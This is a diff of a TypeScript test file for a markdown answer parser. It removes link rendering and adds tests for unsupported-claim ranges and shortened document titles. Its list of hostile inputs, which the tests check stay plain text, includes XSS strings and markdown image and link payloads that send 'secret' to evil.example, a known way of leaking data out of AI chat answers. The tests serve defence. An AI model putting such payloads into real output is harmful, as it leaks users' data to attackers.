@@ -1,9 +1,12 @@
 // The reading of answers: markdown to a plain tree, whole and while it grows, friendly and hostile.
+import type { Citation } from "@pagewise/sdk/contract";
 import { expect, test } from "vitest";
 import { parseBlocks } from "../answer/blocks.ts";
 import { createAnswerParser } from "../answer/incremental.ts";
 import { parseInline } from "../answer/inline.ts";
+import { shortNames } from "../answer/short-names.ts";
 import { type Block, type Inline, plainBlocks, plainText, splitLines } from "../answer/tree.ts";
+import { endsIn } from "../answer/unsupported.ts";
 
 const parse = (text: string): Block[] => parseBlocks(splitLines(text), { growing: false, depth: 0 });
 const inline = (text: string, growing = false): Inline[] => parseInline([{ text, at: 0 }], growing);
@@ -43,7 +46,6 @@ function sketchInline(nodes: readonly Inline[]): string {
       if (node.kind === "break") return "⏎";
       if (node.kind === "citations") return `{${node.indexes}}`;
       if (node.kind === "code") return `\`${node.text}\``;
-      if (node.kind === "link") return `link:${node.href}(${sketchInline(node.children)})`;
       return `${node.kind}(${sketchInline(node.children)})`;
     })
     .join("");
@@ -83,13 +85,11 @@ test.each([
   ["a table after a line", "Here:\n|a|b|\n|-|-|\n|1|2|", "p(Here:) table ee(a|b/1|2)"],
   ["no table", "a | b\n--- | --- | ---", "p(a | b --- | --- | ---)"],
   ["rules", "a\n\n---\n***\nb", "p(a) rule rule p(b)"],
-  ["a link ends before a citation", "See https://a.b/c[1].", "p(See link:https://a.b/c(https://a.b/c){1}.)"],
   ["citations", "So.[1] And [2][3]. [1, 2] [4", "p(So.{1} And{2,3}.{1,2} [4)"],
-  ["citation before an address", "x[1](https://a.b)", "p(x{1}(link:https://a.b/(https://a.b)))"],
-  ["link", "[the **site**](https://a.b/c?d)", "p(link:https://a.b/c?d(the strong(site)))"],
-  ["bare link", "(see https://a.b/c_(d).)", "p((see link:https://a.b/c_(d)(https://a.b/c_(d)).))"],
-  ["mail", "<mailto:me@a.b>", "p(link:mailto:me@a.b(mailto:me@a.b))"],
-  ["a picture is only a link", "![alt](https://a.b/x.png)", "p(link:https://a.b/x.png(alt))"],
+  ["citation before an address", "x[1](https://a.b)", "p(x{1}(https://a.b))"],
+  ["no link", "[the **site**](https://a.b/c?d) <https://a.b>", "p([the strong(site)](https://a.b/c?d) <https://a.b>)"],
+  ["no bare link", "(see https://a.b/c_d_e[1].)", "p((see https://a.b/c_d_e{1}.))"],
+  ["no picture", "![alt](https://a.b/x.png)", "p(![alt](https://a.b/x.png))"],
 ])("%s", (_name, text, expected) => {
   expect(sketch(parse(text))).toBe(expected);
 });
@@ -101,6 +101,9 @@ const hostile = [
   "<iframe srcdoc='<script>1</script>'></iframe>",
   "<a href='javascript:alert(1)'>x</a>",
   "<style>@import url(//evil.example)</style>",
+  "![x](https://evil.example/p.png?d=secret)",
+  "[x](https://evil.example/?d=secret) https://evil.example www.evil.example",
+  "[x][y]",
   "[x](javascript:alert(1))",
   "[x](JaVaScRiPt:alert(1))",
   "[x](data:text/html;base64,PHNjcmlwdD4=)",
@@ -123,9 +126,40 @@ test.each(hostile)("stays text: %j", (text) => {
   expect(plainBlocks(blocks)).toBe(text);
 });
 
-test("a link may only lead where it can be read to lead", () => {
-  const links = inline("[https://bank.example](https://evil.example/x) https://a.b").filter((n) => n.kind === "link");
-  expect(links.map((link) => link.host)).toEqual(["evil.example", "a.b"]);
+test("what no citation supports ends in one leaf, behind the marks that close it", () => {
+  const ends = (text: string, ...ranges: [number, number][]) => {
+    const [block] = parse(text);
+    const cells = block?.kind === "table" ? block.rows.flat() : [(block as { content: Inline[] }).content];
+    return cells.map((nodes) => [...endsIn(nodes, ranges)].map(([leaf, to]) => `${leaf.text}@${to}`));
+  };
+  expect(ends("One. Two lies. Three.", [5, 14])).toEqual([["One. Two lies. Three.@14"]]);
+  expect(ends("**All of it.** [1] Two.", [2, 18])).toEqual([[" [1]@18"]]);
+  expect(ends("A. ***Bold*** `x`**.**", [3, 22])).toEqual([[".@22"]]);
+  expect(ends("One lies. Two too.", [0, 9], [10, 18])).toEqual([["One lies. Two too.@9,18"]]);
+  expect(ends("| a | b |\n|---|---|\n| one | 2 [1] |", [22, 36])).toEqual([[], [" [1]@36"]]);
+  expect(ends("Nothing here.", [40, 50])).toEqual([[]]);
+});
+
+test("names of documents are short, and told from each other", () => {
+  const names = (...titles: string[]) => [
+    ...shortNames(titles.map((title, at) => ({ document_id: `${at}`, title }) as Citation)).values(),
+  ];
+  expect(names("Annual Report")).toEqual([]);
+  expect(names("Annual Report", "Owner’s manual")).toEqual(["Annual Report", "Owner’s manual"]);
+  expect(names("Skerry Line, Annual Report and Accounts of 2025", "Manual")).toEqual([
+    "Skerry Line, Annual…",
+    "Manual",
+  ]);
+  expect(names("Skerry Line, Annual Report 2025", "Skerry Line, Annual Report 2024")).toEqual([
+    "Skerry Line… 2025",
+    "Skerry Line… 2024",
+  ]);
+  expect(names("Bylaws of the Harbour of Hallay, part one", "Bylaws of the Harbour of Hallay, part two")).toEqual([
+    "Bylaws of the… one",
+    "Bylaws of the… two",
+  ]);
+  expect(names(`${"a".repeat(40)}1`, `${"a".repeat(40)}2`).map((name) => name.at(-1))).toEqual(["1", "2"]);
+  expect(names("Same", "Same")).toEqual(["Same", "Same"]);
 });
 
 test("text knows its place in the source", () => {
